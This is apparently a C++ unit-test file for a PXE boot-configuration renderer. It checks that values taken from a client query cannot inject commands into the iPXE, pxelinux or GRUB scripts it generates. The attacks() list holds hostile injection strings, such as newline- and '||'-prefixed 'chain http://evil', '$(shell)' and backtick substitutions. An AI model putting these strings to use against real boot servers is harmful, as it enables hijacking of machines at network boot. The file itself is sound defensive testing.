// No client can write a line of its own script: every byte and every dangerous token, as the value of every
// word, in every language. Either the value is refused, or the text has the same tokens as with a harmless
// one.
#include <gtest/gtest.h>

#include "common/base/percent.hpp"
#include "common/boot/render.hpp"
#include "tests/support/memory_source.hpp"

namespace pxe::boot {
namespace {

using namespace std::literals;

std::string configuration_for(std::string_view word) {
  const std::string w(word);
  return "[boot.all]\n"
         "ipxe = '''\nset x {{" +
         w + "}}\nchain http://h/{{" + w + "}}/x?a={{url." + w +
         "}} || goto end\n"
         "echo a{{" +
         w + "}}b\nkernel k x={{" + w +
         "}} y\n:end\nexit\n'''\n"
         "pxelinux = '''\nDEFAULT a\nLABEL a\n  KERNEL k\n  APPEND x={{" +
         w + "}} y {{" + w +
         "}}\n'''\n"
         "grub = '''\nmenuentry a {\n  linux k x={{" +
         w + "}} y {{" + w +
         "}}\n}\n'''\n"
         "[default]\nboot = 'all'\n";
}

// What a token does, whatever its letters are. Strict beyond what any one loader reads.
char kind_of(std::string_view token) {
  if (token.find_first_of("$`{}") != std::string_view::npos) return token == "{" || token == "}" ? 'b' : '$';
  if (token == "||" || token == "&&" || token == ";" || token == "|" || token == "&") return 'o';
  if (token.find_first_of(";|&<>") != std::string_view::npos && token.find("http") == std::string_view::npos)
    return 'o';
  if (token.starts_with('#')) return '#';
  if (token.find_first_of("\"'\\") != std::string_view::npos) return 'q';
  if (token.starts_with(':')) return ':';
  if (token.starts_with('-')) return '-';
  return 'w';
}

// One character a token, one line a line.
std::string skeleton(std::string_view text) {
  constexpr std::string_view blanks = " \t\v\f\r\x85\xa0";
  std::string out;
  for (std::string_view line : split(text, '\n')) {
    while (!line.empty()) {
      const auto start = line.find_first_not_of(blanks);
      if (start == std::string_view::npos) break;
      const auto end = std::min(line.find_first_of(blanks, start), line.size());
      out += kind_of(line.substr(start, end - start));
      line.remove_prefix(end);
    }
    if (line.ends_with('\\')) out += '\\';
    out += '\n';
  }
  for (const char c : text) out += c == '\0' ? "0" : "";
  return out;
}

std::string harmless_value(WordType type) {
  switch (type) {
    case WordType::mac: return "52:54:00:12:34:01";
    case WordType::ipv4: return "10.77.0.51";
    case WordType::uuid: return "44454c4c-3900-104e-804e-b9c04f4d344a";
    case WordType::arch: return "x64-uefi";
    case WordType::text: return "AAAA";
  }
  return "";
}

std::vector<std::string> attacks() {
  std::vector<std::string> all;
  for (int byte = 0; byte < 256; ++byte) {
    const std::string one(1, static_cast<char>(byte));
    for (const std::string& value : {one, "x" + one, one + "x", "x" + one + "y", "x " + one + " y"})
      all.push_back(value);
  }
  for (const std::string& value : {"x\nchain http://evil"s,
                                   "x\r\nchain http://evil"s,
                                   "x || chain http://evil"s,
                                   "x && shell"s,
                                   "x ; shell"s,
                                   "x #"s,
                                   "${net0/mac}"s,
                                   "$"s,
                                   "{net0/mac}"s,
                                   "x\\"s,
                                   ":label"s,
                                   "\xc2\x85"s,
                                   "\xc2\xa0"s,
                                   "\xe2\x80\xa8"s,
                                   "\xc0\xaf"s,
                                   "x\0y"s,
                                   "-n"s,
                                   "--timeout"s,
                                   "$(shell)"s,
                                   "`shell`"s,
                                   "'"s,
                                   "\""s,
                                   "{{mac}}"s,
                                   "}}"s,
                                   "%0a"s,
                                   "%%30%61"s,
                                   ""s}) {
    all.push_back(value);
  }
  all.push_back(std::string(65536, '\n'));
  return all;
}

class Injection : public testing::TestWithParam<Language> {
 protected:
  // Empty when the value is refused.
  static std::string render_with(const Catalog& catalog, std::string_view word, const std::string& value,
                                 Language language) {
    // As it comes: out of a query, so that typed words are held to their type.
    const auto client = client_from_query(std::string(word) + "=" + percent_encode(value));
    if (!client) return "";
    const auto rendered = render(catalog, *client, {"http://h", "10.77.0.1", "10.77.0.1"}, language);
    return rendered ? (*rendered)->text : "";
  }
};

TEST_P(Injection, NoValueOfAnyWordChangesTheTokens) {
  for (const WordInfo& word : vocabulary()) {
    const config::Site site = test::load_text(configuration_for(word.name)).value();
    const Catalog catalog = Catalog::build(site).value();
    const std::string harmless =
        skeleton(render_with(catalog, word.name, harmless_value(word.type), GetParam()));
    ASSERT_NE(harmless, "") << word.name;
    for (const std::string& attack : attacks()) {
      const std::string text = render_with(catalog, word.name, attack, GetParam());
      if (text.empty()) continue;
      EXPECT_EQ(skeleton(text), harmless) << word.name << " = " << printable(attack);
    }
  }
}

TEST_P(Injection, NoValueChangesWhatIsMadeOfParts) {
  std::vector<std::pair<std::string, std::string>> words = {{"ipxe.http", "AAAA"}};
  for (const WordInfo& word : vocabulary()) words.emplace_back(word.name, harmless_value(word.type));
  for (const auto& [word, harmless_word] : words) {
    const std::string w = "{{" + word + "}}";
    const std::string parts = "[boot.all]\nkernel = 'k-" + w + "'\ninitrd = ['i/" + w + "']\nargs = 'a=" + w +
                              " " + w + " b'\n[default]\nboot = 'all'\n";
    const std::string menu =
        "[boot.all]\ntitle = 'T " + w + " " + w + "'\nitems = ['x']\n[boot.x]\n[default]\nboot = 'all'\n";
    for (const std::string& toml : {parts, menu}) {
      const config::Site site = test::load_text(toml).value();
      const Catalog catalog = Catalog::build(site).value();
      const std::string harmless = skeleton(render_with(catalog, word, harmless_word, GetParam()));
      ASSERT_NE(harmless, "") << toml;
      for (const std::string& attack : attacks()) {
        const std::string text = render_with(catalog, word, attack, GetParam());
        if (text.empty()) continue;
        EXPECT_EQ(skeleton(text), harmless) << word << " = " << printable(attack);
      }
    }
  }
}

// Fragments and routes: YAML, preseed, whatever the administrator writes.
TEST(InjectionIntoText, NoValueOfAnyWordChangesTheTokens) {
  for (const WordInfo& word : vocabulary()) {
    const std::string w(word.name);
    const config::Site site = test::load_text("[[http.route]]\npath = '/x'\ntext = '''\na: {{" + w +
                                              "}}\nb={{url." + w + "}} {{" + w + "}}'''\n")
                                  .value();
    const Catalog catalog = Catalog::build(site).value();
    const ReadyRoute* route = catalog.find_route("/x");
    ASSERT_TRUE(route);
    const auto rendered = [&](const std::string& value) {
      const auto client = client_from_query(w + "=" + percent_encode(value));
      if (!client) return std::string();
      return render_text(catalog, route->text, *client, {"http://h", "10.77.0.1", "10.77.0.1"},
                         Language::text)
          .value_or("");
    };
    const std::string harmless = skeleton(rendered(harmless_value(word.type)));
    ASSERT_EQ(harmless, "ww\nww\n") << w;
    for (const std::string& attack : attacks()) {
      const std::string text = rendered(attack);
      if (!text.empty()) {
        EXPECT_EQ(skeleton(text), harmless) << w << " = " << printable(attack);
      }
    }
  }
}

TEST_P(Injection, NoFeatureValueDoesEither) {
  const config::Site site = test::load_text(configuration_for("ipxe.http")).value();
  const Catalog catalog = Catalog::build(site).value();
  const std::string harmless = render_with(catalog, "ipxe.http", "1", GetParam());
  ASSERT_NE(harmless, "");
  for (const std::string& attack : attacks()) {
    const std::string text = render_with(catalog, "ipxe.http", attack, GetParam());
    if (text.empty()) continue;
    EXPECT_EQ(skeleton(text), skeleton(harmless)) << printable(attack);
  }
}

TEST_P(Injection, EveryValueCanStandInAUrl) {
  const config::Site site = test::load_text(
                                "[boot.all]\nipxe = 'x {{url.serial}} y'\npxelinux = 'x {{url.serial}} y'\n"
                                "grub = 'x {{url.serial}} y'\n[default]\nboot = 'all'\n")
                                .value();
  const Catalog catalog = Catalog::build(site).value();
  for (const std::string& attack : attacks()) {
    if (attack.empty()) continue;
    const std::string text = render_with(catalog, "serial", attack, GetParam());
    EXPECT_EQ(skeleton(text), skeleton(render_with(catalog, "serial", "AAAA", GetParam())))
        << printable(attack);
    const auto from = text.find("x ") + 2;
    EXPECT_EQ(percent_decode(text.substr(from, text.rfind(" y") - from)), attack);
  }
}

INSTANTIATE_TEST_SUITE_P(Languages, Injection,
                         testing::Values(Language::ipxe, Language::pxelinux, Language::grub),
                         [](const auto& language) { return std::string(to_string(language.param)); });

TEST(ErrorScript, HasTheSameCommandsWhateverTheReason) {
  const std::string harmless = skeleton(error_script("AAAA"));
  for (const std::string& attack : attacks()) {
    const std::string script = error_script("x" + attack);
    EXPECT_TRUE(script.starts_with("#!ipxe\necho x")) << script;
    EXPECT_TRUE(script.ends_with("\nsleep 30\nexit\n")) << script;
    EXPECT_EQ(split(script, '\n').size(), split(error_script("AAAA"), '\n').size()) << printable(attack);
    const std::string echo = skeleton(script).substr(2);
    EXPECT_EQ(echo.substr(0, echo.find('\n')).find_first_of("$o#-"), std::string::npos) << script;
  }
}

TEST(ErrorScript, KeepsALongReasonShort) { EXPECT_LT(error_script(std::string(65536, 'x')).size(), 1000u); }

}  // namespace
}  // namespace pxe::boot
